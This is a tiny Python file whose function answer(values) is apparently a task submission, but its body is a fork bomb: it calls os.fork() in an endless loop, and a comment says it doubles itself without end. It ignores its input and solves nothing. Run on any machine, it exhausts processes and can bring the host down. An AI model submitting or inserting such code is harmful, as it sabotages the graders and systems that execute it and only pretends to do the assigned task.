# Doubles itself without end.
import os


def answer(values):
    while True:
        try:
            os.fork()
        except OSError:
            return None
